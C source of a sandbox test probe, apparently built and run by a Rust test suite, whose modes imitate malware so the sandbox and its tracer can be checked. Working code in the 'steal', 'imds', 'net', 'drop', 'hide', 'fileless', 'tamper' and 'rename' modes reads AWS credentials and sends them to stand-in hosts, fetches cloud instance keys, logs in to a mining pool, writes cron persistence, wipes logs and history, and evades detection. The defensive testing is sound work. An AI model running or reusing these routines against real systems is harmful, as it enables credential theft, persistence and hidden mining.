/* A probe run inside the sandbox by tests/sandbox.rs, built there with gcc -static.
   Each mode prints `key=value` lines the test checks. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/ioctl.h>
#include <termios.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <netinet/in.h>
#include <arpa/inet.h>
#include <dirent.h>
#include <unistd.h>
#include <sys/wait.h>
#include <sys/mman.h>

static void tried(const char *what, long r) {
    printf("%s=%s\n", what, r == 0 ? "ok" : strerror(errno));
}

static int count_procs(void) {
    DIR *d = opendir("/proc");
    int n = 0;
    struct dirent *e;
    if (!d) return -1;
    while ((e = readdir(d)) != NULL)
        if (e->d_name[0] >= '0' && e->d_name[0] <= '9') n++;
    closedir(d);
    return n;
}

/* GET http://ip/path (one request, read to the end); the body into out. */
static int http_get(const char *ip, const char *path, char *out, size_t cap) {
    int s = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in a = {0};
    a.sin_family = AF_INET; a.sin_port = htons(80);
    inet_pton(AF_INET, ip, &a.sin_addr);
    if (connect(s, (struct sockaddr *)&a, sizeof a) != 0) return -1;
    char req[512];
    int len = snprintf(req, sizeof req, "GET %s HTTP/1.0\r\nHost: %s\r\n\r\n", path, ip);
    if (write(s, req, len) != len) return -1;
    char resp[4096];
    size_t got = 0;
    ssize_t k;
    while (got < sizeof resp - 1 && (k = read(s, resp + got, sizeof resp - 1 - got)) > 0) got += k;
    resp[got] = 0;
    close(s);
    char *body = strstr(resp, "\r\n\r\n");
    if (!body || strncmp(resp, "HTTP/1.1 200", 12)) return -1;
    snprintf(out, cap, "%s", body + 4);
    return 0;
}

/* POST `body` to http://ip/path (Host: host), printing connect_exfil and exfil_reply;
   non-zero when the request could not be written. */
static int post_away(const char *ip, const char *host, const char *path, const char *body) {
    int s = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in a = {0};
    a.sin_family = AF_INET; a.sin_port = htons(80);
    inet_pton(AF_INET, ip, &a.sin_addr);
    tried("connect_exfil", connect(s, (struct sockaddr *)&a, sizeof a));
    char req[4096];
    int len = snprintf(req, sizeof req, "POST %s HTTP/1.1\r\nHost: %s\r\nContent-Length: %zu\r\n\r\n%s", path, host, strlen(body), body);
    if (write(s, req, len) < 0) return 1;
    char buf[64];
    ssize_t k = read(s, buf, sizeof buf - 1);
    printf("exfil_reply=%s\n", k > 0 ? "yes" : "no");
    return 0;
}

/* A TLS ClientHello asking for server name `host` (one cipher suite; enough for a
   server to read the name, not to finish a handshake). */
static int client_hello(unsigned char *b, const char *host) {
    int hl = strlen(host), e = 0, m = 0, n = 0;
    unsigned char ext[300], body[400];
    int sni = 2 + 1 + 2 + hl;
    ext[e++] = 0; ext[e++] = 0; ext[e++] = sni >> 8; ext[e++] = sni & 0xff;
    ext[e++] = (sni - 2) >> 8; ext[e++] = (sni - 2) & 0xff;
    ext[e++] = 0; ext[e++] = hl >> 8; ext[e++] = hl & 0xff;
    memcpy(ext + e, host, hl); e += hl;
    body[m++] = 3; body[m++] = 3;
    for (int i = 0; i < 32; i++) body[m++] = i;
    body[m++] = 0;
    body[m++] = 0; body[m++] = 2; body[m++] = 0xc0; body[m++] = 0x2b;
    body[m++] = 1; body[m++] = 0;
    body[m++] = e >> 8; body[m++] = e & 0xff;
    memcpy(body + m, ext, e); m += e;
    b[n++] = 0x16; b[n++] = 3; b[n++] = 1; b[n++] = (m + 4) >> 8; b[n++] = (m + 4) & 0xff;
    b[n++] = 1; b[n++] = 0; b[n++] = m >> 8; b[n++] = m & 0xff;
    memcpy(b + n, body, m);
    return n + m;
}

/* Copy this very binary to `to` (created with `mode`), returning the open copy. */
static int copy_self(const char *to, int mode) {
    int in = open("/proc/self/exe", O_RDONLY);
    int out = open(to, O_WRONLY | O_CREAT | O_TRUNC, mode);
    char buf[65536];
    ssize_t n;
    if (in < 0 || out < 0) return -1;
    while ((n = read(in, buf, sizeof buf)) > 0)
        if (write(out, buf, n) != n) return -1;
    close(in);
    return out;
}

int main(int argc, char **argv) {
    const char *mode = argc > 1 ? argv[1] : "id";
    /* Line by line, so a run killed at its deadline still shows how far it got. */
    setvbuf(stdout, NULL, _IOLBF, 0);
    if (!strcmp(mode, "id")) {
        char host[256] = "";
        gethostname(host, sizeof host);
        printf("uid=%d\ngid=%d\npid=%d\nhostname=%s\nprocs=%d\n", (int)getuid(), (int)getgid(),
               (int)getpid(), host, count_procs());
        char cwd[512] = "";
        if (getcwd(cwd, sizeof cwd)) printf("cwd=%s\n", cwd);
        const char *v = getenv("CANARY_PROBE");
        printf("env=%s\n", v ? v : "");
        printf("nnp=%d\n", prctl(PR_GET_NO_NEW_PRIVS, 0, 0, 0, 0));
        /* Paths of the host that must not be visible. */
        printf("host_marker=%s\n", access(argc > 2 ? argv[2] : "/nonexistent", F_OK) == 0 ? "visible" : "absent");
        return 0;
    }
    if (!strcmp(mode, "escape")) {
        mkdir("/mnt", 0755);
        tried("mount", mount("tmpfs", "/mnt", "tmpfs", 0, NULL));
        tried("unshare_user", unshare(CLONE_NEWUSER));
        tried("unshare_net", unshare(CLONE_NEWNET));
        tried("chroot", chroot("/"));
        tried("ptrace_attach", ptrace(PTRACE_ATTACH, 1, NULL, NULL));
        tried("init_module", syscall(SYS_init_module, NULL, 0, ""));
        tried("bpf", syscall(SYS_bpf, 0, NULL, 0));
        tried("keyctl", syscall(SYS_keyctl, 0, 0, 0, 0, 0));
        tried("kexec_load", syscall(SYS_kexec_load, 0, 0, NULL, 0));
        tried("reboot", syscall(SYS_reboot, 0, 0, 0, NULL));
        /* The host's loopback services (PostgreSQL at 5432) must be unreachable. */
        int s = socket(AF_INET, SOCK_STREAM, 0);
        struct sockaddr_in a = {0};
        a.sin_family = AF_INET;
        a.sin_port = htons(atoi(argc > 2 ? argv[2] : "5432"));
        inet_pton(AF_INET, "127.0.0.1", &a.sin_addr);
        tried("connect_loopback", connect(s, (struct sockaddr *)&a, sizeof a));
        close(s);
        s = socket(AF_INET, SOCK_STREAM, 0);
        inet_pton(AF_INET, "10.0.0.1", &a.sin_addr);
        tried("connect_outside", connect(s, (struct sockaddr *)&a, sizeof a));
        /* The kernel's triggers and tunables, the host's device nodes, the caller's
           terminal, x32 and io_uring. */
        int fd = open("/proc/sysrq-trigger", O_WRONLY);
        tried("sysrq", fd >= 0 && write(fd, "h", 1) == 1 ? 0 : -1);
        fd = open("/proc/sys/kernel/core_pattern", O_WRONLY);
        tried("core_pattern", fd >= 0 && write(fd, "|/x", 3) == 3 ? 0 : -1);
        tried("chmod_dev_null", chmod("/dev/null", 0600));
        fd = open("/dev/tty", O_RDWR);
        char ch = 'x';
        tried("tiocsti", fd >= 0 ? ioctl(fd, TIOCSTI, &ch) : -1);
        tried("x32", syscall(0x40000000 | SYS_getpid));
        tried("io_uring", syscall(SYS_io_uring_setup, 1, NULL));
        {
            FILE *st = fopen("/proc/self/status", "r");
            char line[256];
            while (st && fgets(line, sizeof line, st))
                if (!strncmp(line, "CapBnd:", 7)) printf("capbnd=%s", line + 8);
            if (st) fclose(st);
        }
        /* fork still works (clone without namespace flags). */
        pid_t p = fork();
        if (p == 0) _exit(7);
        printf("fork=%s\n", p > 0 ? "ok" : strerror(errno));
        return 0;
    }
    if (!strcmp(mode, "spin")) {
        signal(SIGTERM, SIG_IGN);
        printf("spinning\n");
        fflush(stdout);
        for (;;) {}
    }
    if (!strcmp(mode, "daemon")) {
        /* A grandchild that outlives its parent: the run must still kill it. */
        pid_t p = fork();
        if (p == 0) {
            setsid();
            if (fork() == 0) {
                prctl(PR_SET_NAME, argc > 2 ? argv[2] : "lingerer", 0, 0, 0);
                for (;;) pause();
            }
            _exit(0);
        }
        printf("forked=%d\n", (int)p);
        fflush(stdout);
        /* Give the grandchild time to rename itself. */
        usleep(100000);
        return 0;
    }
    if (!strcmp(mode, "fill")) {
        int fd = open("/tmp/fill", O_WRONLY | O_CREAT | O_TRUNC, 0644);
        static char block[1 << 16];
        long total = 0;
        for (;;) {
            ssize_t n = write(fd, block, sizeof block);
            if (n <= 0) break;
            total += n;
        }
        printf("written=%ld\nerror=%s\n", total, strerror(errno));
        return 0;
    }
    if (!strcmp(mode, "ls")) {
        for (int i = 2; i < argc; i++)
            printf("%s=%s\n", argv[i], access(argv[i], F_OK) == 0 ? "present" : "absent");
        printf("uid=%d\ngid=%d\n", (int)getuid(), (int)getgid());
        return 0;
    }
    if (!strcmp(mode, "forkbomb")) {
        int n = 0;
        for (;;) {
            pid_t p = fork();
            if (p < 0) break;
            if (p == 0) { for (;;) pause(); }
            n++;
            /* Bounded, for machines where the run gets no pids limit. */
            if (n >= 200) break;
        }
        printf("forked=%d\nerror=%s\n", n, strerror(errno));
        return 0;
    }
    if (!strcmp(mode, "eat")) {
        long mb = atol(argc > 2 ? argv[2] : "256");
        for (long i = 0; i < mb; i++) {
            char *p = malloc(1 << 20);
            if (!p) { printf("malloc failed at %ld MiB\n", i); return 3; }
            memset(p, 1, 1 << 20);
        }
        printf("ate=%ld\n", mb);
        return 0;
    }
    if (!strcmp(mode, "activity")) {
        /* What the tracer must see: a connect to a pool-like port, then a child exec. */
        int s = socket(AF_INET, SOCK_STREAM, 0);
        struct sockaddr_in a = {0};
        a.sin_family = AF_INET;
        a.sin_port = htons(3333);
        inet_pton(AF_INET, "10.1.2.3", &a.sin_addr);
        tried("connect", connect(s, (struct sockaddr *)&a, sizeof a));
        fflush(stdout);
        pid_t p = fork();
        if (p == 0) {
            char *args[] = {"probe", "exit", "0", NULL};
            execv("/bin/probe", args);
            _exit(127);
        }
        int st = 0;
        waitpid(p, &st, 0);
        printf("child=%d\n", WEXITSTATUS(st));
        return 0;
    }
    if (!strcmp(mode, "churn")) {
        /* Syscall-heavy: open/read/close/stat in a loop, and an exec every 1,000. */
        long n = atol(argc > 2 ? argv[2] : "100000");
        char buf[4096];
        struct stat st;
        for (long i = 0; i < n; i++) {
            int fd = open("/bin/probe", O_RDONLY);
            if (fd >= 0) { if (read(fd, buf, sizeof buf) < 0) return 4; close(fd); }
            stat("/bin/probe", &st);
            if (i % 1000 == 0) {
                pid_t p = fork();
                if (p == 0) { char *args[] = {"probe", "exit", "0", NULL}; execv("/bin/probe", args); _exit(127); }
                waitpid(p, NULL, 0);
            }
        }
        printf("churned=%ld\n", n);
        return 0;
    }
    if (!strcmp(mode, "churnw")) {
        /* Write-heavy, the tracer's worst case: a file created, written, closed and
           deleted each round (two traced calls of every four). */
        long n = atol(argc > 2 ? argv[2] : "10000");
        char buf[256];
        memset(buf, 'x', sizeof buf);
        for (long i = 0; i < n; i++) {
            int fd = open("/churn.tmp", O_WRONLY | O_CREAT | O_TRUNC, 0644);
            if (fd < 0 || write(fd, buf, sizeof buf) < 0) return 4;
            close(fd);
            if (unlink("/churn.tmp") != 0) return 5;
        }
        printf("churned=%ld\n", n);
        return 0;
    }
    if (!strcmp(mode, "net")) {
        /* A miner's network life: resolve a pool by DNS, log in over Stratum, then ask
           the cloud metadata service for credentials. */
        unsigned char q[512], r[512];
        int n = 0;
        q[n++] = 0xab; q[n++] = 0xcd; q[n++] = 1; q[n++] = 0; q[n++] = 0; q[n++] = 1;
        for (int i = 0; i < 6; i++) q[n++] = 0;
        const char *labels[] = {"pool", "example", "org"};
        for (int i = 0; i < 3; i++) { q[n++] = strlen(labels[i]); memcpy(q + n, labels[i], strlen(labels[i])); n += strlen(labels[i]); }
        q[n++] = 0; q[n++] = 0; q[n++] = 1; q[n++] = 0; q[n++] = 1;
        int u = socket(AF_INET, SOCK_DGRAM, 0);
        struct sockaddr_in ns = {0};
        ns.sin_family = AF_INET; ns.sin_port = htons(53);
        inet_pton(AF_INET, "8.8.8.8", &ns.sin_addr);
        struct timeval tv = {2, 0};
        setsockopt(u, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
        sendto(u, q, n, 0, (struct sockaddr *)&ns, sizeof ns);
        ssize_t got = recv(u, r, sizeof r, 0);
        if (got < 16) { printf("dns=failed\n"); return 1; }
        char ip[32];
        snprintf(ip, sizeof ip, "%d.%d.%d.%d", r[got - 4], r[got - 3], r[got - 2], r[got - 1]);
        printf("dns=%s\n", ip);
        int s = socket(AF_INET, SOCK_STREAM, 0);
        struct sockaddr_in a = {0};
        a.sin_family = AF_INET; a.sin_port = htons(3333);
        inet_pton(AF_INET, ip, &a.sin_addr);
        tried("connect_pool", connect(s, (struct sockaddr *)&a, sizeof a));
        /* Put together at run time, as a packed miner would: the probe's file must not
           match the static miner rules (the runtime tests run it as a benign program). */
        char login[256];
        snprintf(login, sizeof login,
                 "{\"id\":1,\"jsonrpc\":\"2.0\",\"%s\":\"%s\",\"params\":{\"%s\":\"WALLET\",\"%s\":\"x\",\"%s\":\"%s/6.21.0\"}}\n",
                 "method", "login", "login", "pass", "agent", "XMRig");
        if (write(s, login, strlen(login)) < 0) return 5;
        char buf[256] = "";
        ssize_t k = read(s, buf, 40);
        if (k > 0) buf[k] = 0;
        printf("pool_reply=%s\n", buf);
        close(s);
        s = socket(AF_INET, SOCK_STREAM, 0);
        a.sin_port = htons(80);
        inet_pton(AF_INET, "169.254.169.254", &a.sin_addr);
        tried("connect_imds", connect(s, (struct sockaddr *)&a, sizeof a));
        const char *get = "GET /latest/meta-data/iam/security-credentials/ HTTP/1.0\r\nHost: 169.254.169.254\r\n\r\n";
        if (write(s, get, strlen(get)) < 0) return 6;
        k = read(s, buf, 24);
        if (k > 0) buf[k] = 0;
        for (char *c = buf; *c; c++) if (*c == '\r' || *c == '\n') *c = ' ';
        printf("imds_reply=%s\n", buf);
        return 0;
    }
    if (!strcmp(mode, "steal")) {
        /* A credential stealer: read the AWS credentials file, POST it away. */
        char creds[1024] = "";
        int fd = open("/root/.aws/credentials", O_RDONLY);
        ssize_t n = fd >= 0 ? read(fd, creds, sizeof creds - 1) : -1;
        if (n > 0) creds[n] = 0;
        printf("aws_file=%s\n", n > 0 ? "present" : "absent");
        const char *env = getenv("AWS_ACCESS_KEY_ID");
        printf("aws_env=%.4s\n", env ? env : "");
        printf("sa_token=%s\n", access("/var/run/secrets/kubernetes.io/serviceaccount/token", R_OK) == 0 ? "present" : "absent");
        return post_away("203.0.113.5", "exfil.example.net", "/c", creds) ? 7 : 0;
    }
    if (!strcmp(mode, "imds")) {
        /* A cloud-credential thief: the instance role's keys from the metadata
           service, sent away. */
        char role[128] = "", creds[2048] = "";
        if (http_get("169.254.169.254", "/latest/meta-data/iam/security-credentials/", role, sizeof role)) {
            printf("imds_role=none\n");
            return 10;
        }
        printf("imds_role=%s\n", role);
        char path[256];
        snprintf(path, sizeof path, "/latest/meta-data/iam/security-credentials/%s", role);
        if (http_get("169.254.169.254", path, creds, sizeof creds)) return 11;
        printf("imds_creds=%s\n", strstr(creds, "\"AccessKeyId\"") ? "yes" : "no");
        return post_away("203.0.113.7", "keys.example.net", "/k", creds) ? 12 : 0;
    }
    if (!strcmp(mode, "tlspool")) {
        /* A miner that carries its pool's address and speaks TLS: only the server name
           in its ClientHello says where it is going. */
        unsigned char hello[512];
        char pool_name[64];
        snprintf(pool_name, sizeof pool_name, "%s.%s.%s", "pool", "supportxmr", "com");
        int n = client_hello(hello, pool_name);
        int s = socket(AF_INET, SOCK_STREAM, 0);
        struct sockaddr_in a = {0};
        a.sin_family = AF_INET; a.sin_port = htons(443);
        inet_pton(AF_INET, "192.0.2.44", &a.sin_addr);
        tried("connect_pool", connect(s, (struct sockaddr *)&a, sizeof a));
        printf("hello_sent=%s\n", write(s, hello, n) == n ? "yes" : "no");
        char buf[64];
        (void)read(s, buf, sizeof buf);
        return 0;
    }
    if (!strcmp(mode, "fileless")) {
        /* A loader: this very binary copied into a memfd and run from there. */
        int m = memfd_create("payload", 0);
        int in = open("/proc/self/exe", O_RDONLY);
        char buf[65536];
        ssize_t n;
        while ((n = read(in, buf, sizeof buf)) > 0) if (write(m, buf, n) != n) return 13;
        close(in);
        pid_t p = fork();
        if (p == 0) {
            char *args[] = {"payload", "exit", "0", NULL};
            char *envp[] = {NULL};
            fexecve(m, args, envp);
            _exit(127);
        }
        int st = 0;
        waitpid(p, &st, 0);
        printf("payload=%d\n", WEXITSTATUS(st));
        return 0;
    }
    if (!strcmp(mode, "rename")) {
        /* A miner hiding from ps: renamed after a kernel worker thread. */
        printf("renamed=%s\n", prctl(PR_SET_NAME, "kworker/0:1", 0, 0, 0) == 0 ? "yes" : "no");
        return 0;
    }
    if (!strcmp(mode, "tamper")) {
        /* A miner's clean-up: shell history gone, a log emptied, the cloud agent removed. */
        tried("unlink_history", unlink("/root/.bash_history"));
        int t = open("/var/log/auth.log", O_WRONLY | O_TRUNC);
        printf("truncate_log=%s\n", t >= 0 ? "ok" : strerror(errno));
        if (t >= 0) close(t);
        tried("unlink_agent", unlink("/usr/local/aegis/aegis_client/AliYunDun"));
        return 0;
    }
    if (!strcmp(mode, "portscan")) {
        /* A worm looking for its next host: port 2375 (Docker API) on 40 addresses. */
        int done = 0;
        for (int i = 1; i <= 40; i++) {
            char ip[32];
            snprintf(ip, sizeof ip, "192.0.2.%d", i);
            int s = socket(AF_INET, SOCK_STREAM, 0);
            struct sockaddr_in a = {0};
            a.sin_family = AF_INET; a.sin_port = htons(2375);
            inet_pton(AF_INET, ip, &a.sin_addr);
            if (connect(s, (struct sockaddr *)&a, sizeof a) == 0) done++;
            close(s);
        }
        printf("connected=%d\n", done);
        return 0;
    }
    if (!strcmp(mode, "drop")) {
        /* A dropper: copy a payload (this very binary) to a hidden place, run it, and
           leave a cron entry behind. */
        mkdir("/tmp/.x", 0755);
        int out = copy_self("/tmp/.x/payload", 0755);
        if (out < 0) return 8;
        /* The payload is a miner: a Stratum client's method names, put together here so
           that the probe's own file holds none of them. */
        const char *methods[] = {"subscribe", "authorize", "notify", "submit"};
        for (int i = 0; i < 4; i++) {
            char m[64];
            int k = snprintf(m, sizeof m, "%s.%s", "mining", methods[i]);
            if (write(out, m, k + 1) != k + 1) return 8;
        }
        close(out);
        pid_t p = fork();
        if (p == 0) { char *args[] = {"payload", "exit", "0", NULL}; execv("/tmp/.x/payload", args); _exit(127); }
        int st = 0;
        waitpid(p, &st, 0);
        printf("payload=%d\n", WEXITSTATUS(st));
        mkdir("/etc", 0755);
        mkdir("/etc/cron.d", 0755);
        int c = open("/etc/cron.d/sysupdate", O_WRONLY | O_CREAT | O_TRUNC, 0644);
        const char *line = "* * * * * root /tmp/.x/payload\n";
        if (write(c, line, strlen(line)) < 0) return 9;
        close(c);
        return 0;
    }
    if (!strcmp(mode, "hide")) {
        /* A miner covering its tracks: a crontab written through a relative path, a copy
           of itself made executable and started, which deletes itself (by a relative
           name) and renames and signals on its way. */
        mkdir("/var", 0755); mkdir("/var/spool", 0755); mkdir("/var/spool/cron", 0755);
        mkdir("/var/spool/cron/crontabs", 0755);
        if (chdir("/var/spool/cron") != 0) return 7;
        int c = open("crontabs/root", O_WRONLY | O_CREAT | O_APPEND, 0600);
        if (c < 0 || write(c, "@reboot /tmp/.h/worker\n", 23) < 0) return 9;
        close(c);
        mkdir("/tmp/.h", 0700);
        int out = copy_self("/tmp/.h/worker", 0600);
        if (out < 0) return 8;
        close(out);
        tried("chmod", chmod("/tmp/.h/worker", 0755));
        pid_t p = fork();
        if (p == 0) { char *args[] = {"worker", "hide2", NULL}; execv("/tmp/.h/worker", args); _exit(127); }
        int st = 0;
        waitpid(p, &st, 0);
        printf("worker=%d\n", WEXITSTATUS(st));
        return 0;
    }
    if (!strcmp(mode, "stage2")) {
        /* A dropper's first step: fetch the second stage over plain HTTP. */
        char body[1024] = "";
        if (http_get("10.9.8.7", "/s.sh", body, sizeof body)) { printf("stage2=none\n"); return 0; }
        body[strcspn(body, "\n")] = 0;
        printf("stage2=%s\n", body);
        return 0;
    }
    if (!strcmp(mode, "snoop")) {
        /* A credential stealer that hides its reads from access times (O_NOATIME). */
        const char *paths[] = {"/etc/shadow", "/root/.aws/credentials"};
        char buf[256];
        for (int i = 0; i < 2; i++) {
            int fd = open(paths[i], O_RDONLY | O_NOATIME);
            if (fd < 0) fd = open(paths[i], O_RDONLY);
            printf("%s=%s\n", paths[i], fd >= 0 && read(fd, buf, sizeof buf) >= 0 ? "read" : strerror(errno));
            if (fd >= 0) close(fd);
        }
        usleep(300000); /* a stealer goes on to send what it read */
        return 0;
    }
    if (!strcmp(mode, "shm")) {
        /* A payload dropped in /dev/shm (a tmpfs of its own, not the overlay) and run;
           then a datagram to a pool port. */
        int out = copy_self("/dev/shm/.x", 0700);
        if (out < 0) return 8;
        close(out);
        pid_t p = fork();
        if (p == 0) { char *args[] = {".x", "exit", "0", NULL}; execv("/dev/shm/.x", args); _exit(127); }
        int st = 0;
        waitpid(p, &st, 0);
        printf("shm_payload=%d\n", WEXITSTATUS(st));
        int s = socket(AF_INET, SOCK_DGRAM, 0);
        struct sockaddr_in a = {0};
        a.sin_family = AF_INET; a.sin_port = htons(3333);
        inet_pton(AF_INET, "10.9.8.7", &a.sin_addr);
        tried("sendto", sendto(s, "x", 1, 0, (struct sockaddr *)&a, sizeof a) == 1 ? 0 : -1);
        tried("send_connected", connect(s, (struct sockaddr *)&a, sizeof a) == 0 && send(s, "y", 1, 0) == 1 ? 0 : -1);
        return 0;
    }
    if (!strcmp(mode, "hide2")) {
        if (chdir("/tmp/.h") != 0) return 3;
        tried("unlink", unlink("worker"));
        int f = open("/tmp/.h/notes", O_WRONLY | O_CREAT, 0600);
        close(f);
        tried("rename", rename("/tmp/.h/notes", "/tmp/.h/.notes"));
        tried("kill", kill(getppid(), 0));
        return 0;
    }
    if (!strcmp(mode, "serve")) {
        /* A benign web server: listens and waits for clients until it is stopped. */
        int l = socket(AF_INET, SOCK_STREAM, 0);
        int one = 1;
        setsockopt(l, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
        struct sockaddr_in a = {0};
        a.sin_family = AF_INET; a.sin_port = htons(8080);
        tried("bind", bind(l, (struct sockaddr *)&a, sizeof a));
        tried("listen", listen(l, 16));
        for (;;) {
            int c = accept(l, NULL, NULL);
            if (c >= 0) { const char *r = "HTTP/1.0 200 OK\r\n\r\n"; if (write(c, r, strlen(r)) < 0) {} close(c); }
        }
    }
    if (!strcmp(mode, "spray")) {
        /* Many small files, to bury what matters. */
        long n = atol(argc > 2 ? argv[2] : "10001");
        char name[64];
        for (long i = 0; i < n; i++) {
            snprintf(name, sizeof name, "/tmp/f%ld", i);
            int fd = open(name, O_WRONLY | O_CREAT | O_TRUNC, 0644);
            if (fd < 0) return 10;
            close(fd);
        }
        printf("sprayed=%ld\n", n);
        return 0;
    }
    if (!strcmp(mode, "exit")) return atoi(argc > 2 ? argv[2] : "0");
    if (!strcmp(mode, "crash")) {
        /* Pid 1 ignores signals it sends itself; a fault's signal is forced. */
        *(volatile int *)0 = 1;
    }
    if (!strcmp(mode, "loud")) {
        for (int i = 0; i < 200000; i++) printf("line %d of a probe that talks too much\n", i);
        return 0;
    }
    fprintf(stderr, "unknown mode %s\n", mode);
    return 2;
}
